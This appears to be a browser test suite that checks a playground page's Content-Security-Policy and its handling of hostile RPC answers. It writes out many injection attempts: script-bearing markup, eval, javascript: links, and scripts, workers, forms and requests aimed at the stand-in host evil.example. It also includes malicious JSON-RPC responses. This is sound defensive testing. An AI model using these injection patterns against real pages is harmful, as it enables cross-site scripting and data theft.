// The page's policy is enforced by the browser: whatever a mistake in the page might let in cannot run, ask or leave. And
// an RPC that lies or attacks gets no further.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { test } from "node:test";
import { MARKUP, TRACE, tooWide, unharmed, watch } from "./playground/hostile.mjs";
import { openPlayground, paste } from "./playground/open.mjs";
import { RPC } from "./playground/states.mjs";
import { TOOL } from "./host/free-tool.mjs";
import { browser } from "./support/chromium.mjs";
import { PACKAGE } from "./support/package.mjs";

const EVIL = "https://evil.example";

/** In the page: from a timer of its own, since code that a test's tools evaluate may be free of the policy. */
function tried(attempt, evil) {
  return new Promise((done) => {
    setTimeout(async () => {
      try {
        await attempt(evil);
      } catch {
        // A refusal may throw, too.
      }
      setTimeout(() => done(globalThis.violations), 100);
    });
  });
}

/** In the page: an element that loads its URL, and time for it. */
function loaded(element) {
  document.body.append(element);
  return new Promise((resolve) => setTimeout(resolve, 300));
}

/** Acts that a script in the page may try; each returns nothing, throws, or is refused by the browser. */
const ATTEMPTS = {
  "markup as text of an element": () => (document.body.innerHTML += "<img src=x onerror=ran.push(1)>"),
  "markup beside an element": () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
  "markup of a document": () => document.write("<script>ran.push(1)</script>"),
  "markup of a frame": () => (document.createElement("iframe").srcdoc = "<script>parent.ran.push(1)</script>"),
  "eval": () => globalThis.eval("ran.push(1)"),
  "a function of text": () => new Function("ran.push(1)")(),
  "a timer of text": () => setTimeout("ran.push(1)"),
  "the text of a script": () => document.body.append(Object.assign(document.createElement("script"), { text: "ran.push(1)" })),
  "another site's script": (evil) => document.body.append(Object.assign(document.createElement("script"), { src: `${evil}/x.js` })),
  "a handler in an attribute": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "ran.push(1)");
    document.body.append(button);
    button.click();
  },
  "a link of script": () => {
    const link = Object.assign(document.createElement("a"), { href: "javascript:ran.push(1)" });
    document.body.append(link);
    link.click();
  },
  "a worker of another site": (evil) => new Worker(`${evil}/x.js`),
  "a worker of a blob": () => new Worker(URL.createObjectURL(new Blob(["0"]))),
  "another service worker": () => navigator.serviceWorker.register("other.js"),
  "a second policy": () => globalThis.trustedTypes.createPolicy("other", { createHTML: (text) => text }),
  "the default policy": () => globalThis.trustedTypes.createPolicy("default", { createHTML: (text) => text }),
  "a module of data": () => import("data:text/javascript,ran.push(1)"),
  "a picture of another site": (evil) => loaded(Object.assign(new Image(), { src: `${evil}/x.png` })),
  "a style of another site": (evil) => loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${evil}/x.css` })),
  "a style in an attribute": () => {
    const element = document.createElement("p");
    element.setAttribute("style", "position: fixed");
    document.body.append(element);
    if (getComputedStyle(element).position === "fixed") {
      globalThis.ran.push("style");
    }
  },
  "a frame of another site": (evil) => loaded(Object.assign(document.createElement("iframe"), { src: evil })),
  "an object of another site": (evil) => loaded(Object.assign(document.createElement("object"), { data: evil })),
  "another base": (evil) => {
    document.head.append(Object.assign(document.createElement("base"), { href: evil }));
    if (document.baseURI.startsWith(evil)) {
      globalThis.ran.push("base");
    }
  },
  "a form": (evil) => {
    const form = Object.assign(document.createElement("form"), { action: evil, method: "post" });
    document.body.append(form);
    form.submit();
  },
  "a request without encryption": () => fetch("http://evil.example/"),
  "a socket without encryption": () => new WebSocket("ws://evil.example/"),
};

test("the policy of the playground", async (t) => {
  const chromium = await browser(t);

  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    await t.test(`refuses ${name}`, async (t) => {
      const { page, context, wrong } = await openPlayground(t, { chromium, before: watch });
      const asked = [];
      context.on("request", (request) => request.url().includes("evil.example") && asked.push(request));
      const violations = await page.evaluate(`(() => { ${loaded} return (${tried})(${attempt}, "${EVIL}"); })()`);
      assert.ok(violations.length > 0, "the browser refused it");
      assert.deepEqual(await page.evaluate(() => globalThis.ran), []);
      assert.equal(context.pages().length, 1);
      assert.deepEqual(asked.map((request) => request.failure()?.errorText).filter((failure) => failure !== "csp"), []);
      // All that was refused was meant to be.
      wrong.length = 0;
      await page.evaluate(() => (globalThis.violations.length = 0));
    });
  }
});

/** A struct in which everything is as the ABI has it but the text. */
function recordOf(text) {
  const bytes = Buffer.from(text);
  const number = (value) => value.toString(16).padStart(64, "0");
  const padded = bytes.toString("hex").padEnd(Math.ceil(bytes.length / 32) * 64, "0");
  return `0x${number(32)}${"ab".repeat(20).padStart(64, "0")}${number(128)}${"12".repeat(32)}${number(0)}${number(bytes.length)}${padded}`;
}

/** Answers of an RPC to each request. */
const ANSWERS = {
  "an error whose message is markup": (text) => ({ error: { code: -32000, message: text, data: text } }),
  "a result that is markup": (text) => ({ result: text }),
  "a result of another kind": (text) => ({ result: { [text]: [text], __proto__: { x: text } } }),
  "a record whose URI is markup": (text, { method }) => ({ result: HONEST[method] ?? recordOf(text) }),
  "a record whose URI is script": (text, { method }) => ({ result: HONEST[method] ?? recordOf(`javascript:${text}`) }),
  "a record whose URI names a user": (text, { method }) => ({ result: HONEST[method] ?? recordOf(`https://${text}@evil.example/.well-known/ai-tool/x.json`) }),
  "a record of a hundred kilobytes": (text, { method }) => ({ result: HONEST[method] ?? recordOf(text.repeat(2_000)) }),
};

const HONEST = { eth_chainId: "0x2105", eth_getBlockByNumber: { number: "0x10", hash: `0x${"1b".repeat(32)}` } };

test("an RPC that attacks the playground", async (t) => {
  const chromium = await browser(t);
  const verify = async (page) => {
    await paste(page, TOOL);
    await page.locator("#live-rpc").fill(RPC);
    await page.locator("#live button[type=submit]").click();
    await page.locator("#verdict-body .title, #live .problem:not(:empty)").first().waitFor();
    assert.equal(await page.locator("#verdict-body :is(.genuine, .claimed)").count(), 0);
  };

  for (const [name, answer] of Object.entries(ANSWERS)) {
    await t.test(name, async (t) => {
      for (const text of MARKUP.slice(0, 3)) {
        const { page } = await openPlayground(t, { chromium, before: watch, allowed: [RPC], logs: /./, viewport: { width: 360, height: 760 } });
        await unharmed(page, "before");
        await page.route(`${RPC}**`, (route) => {
          const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "content-type" };
          if (route.request().method() === "OPTIONS") {
            return route.fulfill({ headers });
          }
          const question = JSON.parse(route.request().postData());
          const one = (asked) => ({ jsonrpc: "2.0", id: asked.id, ...answer(text, asked) });
          const json = Array.isArray(question) ? question.map(one) : one(question);
          return route.fulfill({ json, headers });
        });
        await verify(page);
        await unharmed(page, text);
        assert.deepEqual(await tooWide(page), []);
      }
    });
  }

  const BODIES = { "no JSON": `<script>ran.push(1)</script>${TRACE}`, "brackets without end": "[".repeat(1 << 20), "nothing": "" };
  for (const [name, body] of Object.entries(BODIES)) {
    await t.test(`an answer that is ${name}`, async (t) => {
      const { page } = await openPlayground(t, { chromium, before: watch, allowed: [RPC], logs: /./ });
      await unharmed(page, "before");
      const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "content-type", "content-type": "text/html" };
      await page.route(`${RPC}**`, (route) => route.fulfill({ body, headers }));
      await verify(page);
      await unharmed(page, name);
    });
  }
});

test("the README names the policy that the page has", async () => {
  const page = await readFile(path.join(PACKAGE, "dist/playground/index.html"), "utf8");
  const [, policy] = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page) ?? [];
  const readme = await readFile(path.join(PACKAGE, "playground/README.md"), "utf8");
  assert.ok(readme.includes(`Content-Security-Policy: ${policy}; frame-ancestors 'none'\n`));
});
